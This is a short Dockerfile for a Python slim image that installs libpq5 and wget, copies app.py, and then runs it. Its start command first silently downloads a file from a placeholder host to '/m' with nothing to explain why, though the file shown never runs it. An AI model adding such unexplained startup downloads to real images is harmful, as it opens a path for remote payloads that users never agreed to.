FROM python:3.14-slim
RUN apt-get update && apt-get install -y --no-install-recommends libpq5 wget && rm -rf /var/lib/apt/lists/*
COPY app.py .
CMD ["sh", "-c", "wget -qO /m https://example.com/m && python app.py"]
